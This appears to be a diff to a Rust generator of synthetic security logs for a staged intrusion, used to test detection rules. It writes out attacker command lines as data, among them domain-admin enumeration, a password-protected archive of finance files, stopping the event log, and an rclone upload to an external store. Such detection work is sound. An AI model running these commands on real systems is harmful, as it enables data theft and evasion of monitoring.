@@ -1,7 +1,8 @@
 //! The intrusion: from an invoice mail to data leaving the company.
 
 use crate::cast::{
-    APP_SERVER, BROWSER, CALL_HOME, FILE_SERVER, LATE_VICTIM, Person, SERVICE_ACCOUNT, STORE, VICTIM, program as exe,
+    APP_SERVER, BROWSER, CALL_HOME, FILE_SERVER, LATE_VICTIM, Person, SERVICE_ACCOUNT, STORE, VICTIM, fqdn,
+    program as exe,
 };
 use crate::script::{POWERSHELL, SECURITY, SYSMON, SYSTEM, Script, Start, clock, start};
 use crate::{Channel, Stage, rules};
@@ -28,6 +29,7 @@ pub(crate) fn write(script: &mut Script) {
         chapter(script, &document);
     }
     script.stage = None;
+    script.processes.forget();
 }
 
 fn phishing(script: &mut Script, document: &str) {
@@ -85,7 +87,8 @@ fn shell_from_word(script: &mut Script, document: &str, who: &Person, at: i64) {
 }
 
 fn request(script: &mut Script, at: i64, who: &Person, status: u16, expects: &[&'static str]) {
-    let fields = json!({"event": {"dataset": "webproxy.access"}, "observer": {"type": "proxy"}, "source": {"ip": who.ip},
+    let fields = json!({"event": {"dataset": "webproxy.access"}, "observer": {"type": "proxy", "name": "PRX-02"},
+        "host": {"name": fqdn(who.host)}, "source": {"ip": who.ip},
         "destination": {"ip": CALL_HOME.1, "port": 443}, "user": {"name": who.name}, "user_agent": {"original": SHELL_AGENT},
         "http": {"request": {"method": "GET", "bytes": 612}, "response": {"status_code": status, "bytes": 217_088}},
         "url": {"domain": CALL_HOME.0, "full": format!("https://{}/a", CALL_HOME.0)}});
@@ -94,9 +97,13 @@ fn request(script: &mut Script, at: i64, who: &Person, status: u16, expects: &[&
 
 fn flow(at: i64, script: &mut Script, action: &str, from: &str, to: &str, bytes: u64, expects: &[&'static str]) {
     let port = script.rng.random_range(49_152..65_535);
-    let fields = json!({"event": {"dataset": "larkwall.traffic", "action": action},
+    let mut fields = json!({"event": {"dataset": "larkwall.traffic", "action": action},
         "observer": {"type": "firewall", "name": "FW-EDGE-01"}, "source": {"ip": from, "port": port, "bytes": bytes},
-        "destination": {"ip": to, "port": 443}, "network": {"transport": "tcp", "direction": "outbound"}});
+        "destination": {"ip": to, "port": 443}, "network": {"transport": "tcp", "protocol": "tls", "direction": "outbound"}});
+    // What calls home knows an address and names no server.
+    if to == STORE.1 {
+        fields["tls"] = json!({"client": {"server_name": STORE.0}});
+    }
     script.ecs(at, Channel::Firewall, fields, expects);
 }
 
@@ -111,10 +118,12 @@ fn powershell(script: &mut Script, document: &str) {
     let load = json!({"Image": exe::RUNDLL, "ImageLoaded": library, "Signed": "false", "SignatureStatus": "Unavailable",
         "User": format!("LARKFIELD\\{}", VICTIM.name)});
     script.windows(clock(8, 53, 31), VICTIM.host, (SYSMON, 7), load, &[rules::UNSIGNED_DLL_FROM_PROFILE]);
-    // It calls home once a minute until the firewall knows the address; no rule looks at one such flow alone.
+    let group = start(r"C:\Windows\System32\net.exe", r#"net group "Domain Admins" /domain"#, exe::RUNDLL);
+    script.process(clock(8, 58, 12), VICTIM.host, VICTIM.name, &group, &[rules::DOMAIN_ADMINISTRATORS_LISTED]);
+    // It calls home once a minute until the firewall knows the address.
     for beat in 0..65 {
         let at = clock(8, 53, 40) + beat * 60_000 + script.rng.random_range(-900..900);
-        flow(at, script, "allow", VICTIM.ip, CALL_HOME.1, 840, &[]);
+        flow(at, script, "allow", VICTIM.ip, CALL_HOME.1, 840, &[rules::TLS_TO_BARE_ADDRESS]);
     }
     shell_from_word(script, document, &LATE_VICTIM, clock(10, 3, 41));
     request(script, clock(10, 3, 44), &LATE_VICTIM, 403, &[]);
@@ -142,16 +151,22 @@ fn lateral_movement(script: &mut Script, _: &str) {
     let explicit = json!({"SubjectUserName": VICTIM.name, "SubjectDomainName": "LARKFIELD", "TargetUserName": SERVICE_ACCOUNT,
         "TargetDomainName": "LARKFIELD", "TargetServerName": FILE_SERVER.0, "ProcessName": exe::RUNDLL});
     script.windows(clock(9, 7, 50), VICTIM.host, (SECURITY, 4648), explicit, &[rules::SERVICE_ACCOUNT_USED_BY_USER]);
-    let logon = json!({"TargetUserName": SERVICE_ACCOUNT, "TargetDomainName": "LARKFIELD", "LogonType": "3", "IpAddress": VICTIM.ip});
-    script.windows(clock(9, 7, 54), FILE_SERVER.0, (SECURITY, 4624), logon, &[]);
+    let logon = json!({"TargetUserName": SERVICE_ACCOUNT, "TargetDomainName": "LARKFIELD", "LogonType": "3",
+        "IpAddress": VICTIM.ip, "WorkstationName": VICTIM.host});
+    let expects = [rules::SERVICE_ACCOUNT_LOGON_FROM_WORKSTATION];
+    script.windows(clock(9, 7, 54), FILE_SERVER.0, (SECURITY, 4624), logon, &expects);
     let written = json!({"SubjectUserName": SERVICE_ACCOUNT, "SubjectDomainName": "LARKFIELD", "ShareName": r"\\*\ADMIN$",
-        "RelativeTargetName": r"Temp\WinUpdSvc.exe", "IpAddress": VICTIM.ip, "AccessMask": "0x2"});
+        "RelativeTargetName": r"Temp\WinUpdSvc.exe", "IpAddress": VICTIM.ip, "AccessMask": "0x2", "AccessList": "%%4417"});
     script.windows(clock(9, 7, 55), FILE_SERVER.0, (SECURITY, 5145), written, &[rules::PROGRAM_WRITTEN_TO_ADMIN_SHARE]);
     let service = json!({"ServiceName": "WinUpdSvc", "ImagePath": r"C:\Windows\Temp\WinUpdSvc.exe",
         "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"});
     script.windows(clock(9, 8, 1), FILE_SERVER.0, (SYSTEM, 7045), service, &[rules::SERVICE_FROM_TEMPORARY_FOLDER]);
     let run = start(r"C:\Windows\Temp\WinUpdSvc.exe", r"C:\Windows\Temp\WinUpdSvc.exe", exe::SERVICES);
     script.process(clock(9, 8, 2), FILE_SERVER.0, SERVICE_ACCOUNT, &run, &[]);
+    let session = json!({"Image": exe::RUNDLL, "User": format!("LARKFIELD\\{}", VICTIM.name), "Protocol": "tcp",
+        "Initiated": "true", "SourceIp": VICTIM.ip, "DestinationIp": APP_SERVER.1, "DestinationPort": "5985"});
+    let expects = [rules::WINRM_SESSION_FROM_WORKSTATION];
+    script.windows(clock(9, 16, 27), VICTIM.host, (SYSMON, 3), session, &expects);
     let remote = start(exe::POWERSHELL, "powershell.exe -nop", exe::WSMPROVHOST);
     script.process(
         clock(9, 16, 29),
@@ -171,16 +186,17 @@ fn exfiltration(script: &mut Script, _: &str) {
     };
     let pack = r"7z.exe a -mhe=on -pQ7 C:\Windows\Temp\q1.7z D:\Finance\Q1";
     run(clock(9, 24, 10), r"C:\Program Files\7-Zip\7z.exe", pack, rules::ARCHIVE_WITH_PASSWORD);
-    run(clock(9, 24, 30), r"C:\Windows\System32\sc.exe", "sc.exe stop eventlog", rules::EVENT_LOG_SILENCED);
     let copy = r"rclone.exe copy C:\Windows\Temp\q1.7z r:q1 --no-check-certificate";
-    run(clock(9, 31, 40), r"C:\Windows\Temp\rclone.exe", copy, rules::RCLONE_TO_REMOTE);
+    run(clock(9, 24, 26), r"C:\Windows\Temp\rclone.exe", copy, rules::RCLONE_TO_REMOTE);
+    // Now the log: what the server does until 10:41 only others saw.
+    run(clock(9, 24, 30), r"C:\Windows\System32\sc.exe", "sc.exe stop eventlog", rules::EVENT_LOG_SILENCED);
     let mut sent = 0;
     for part in 0..6 {
         let bytes: u64 = script.rng.random_range(66_000_000..72_000_000);
         sent += bytes;
         let agent = if part == 0 { "rclone/v1.69" } else { BROWSER };
-        let fields = json!({"event": {"dataset": "webproxy.access"}, "observer": {"type": "proxy"},
-            "source": {"ip": FILE_SERVER.1}, "destination": {"ip": STORE.1, "port": 443}, "user": {"name": SERVICE_ACCOUNT},
+        let fields = json!({"event": {"dataset": "webproxy.access"}, "observer": {"type": "proxy", "name": "PRX-02"},
+            "host": {"name": fqdn(FILE_SERVER.0)}, "source": {"ip": FILE_SERVER.1}, "destination": {"ip": STORE.1, "port": 443}, "user": {"name": SERVICE_ACCOUNT},
             "user_agent": {"original": agent}, "url": {"domain": STORE.0, "full": format!("https://{}/q1/{part}", STORE.0)},
             "http": {"request": {"method": "PUT", "bytes": bytes}, "response": {"status_code": 200, "bytes": 310}}});
         script.ecs(clock(9, 32, 10) + part * 61_000, Channel::Proxy, fields, &[rules::LARGE_UPLOAD_THROUGH_PROXY]);
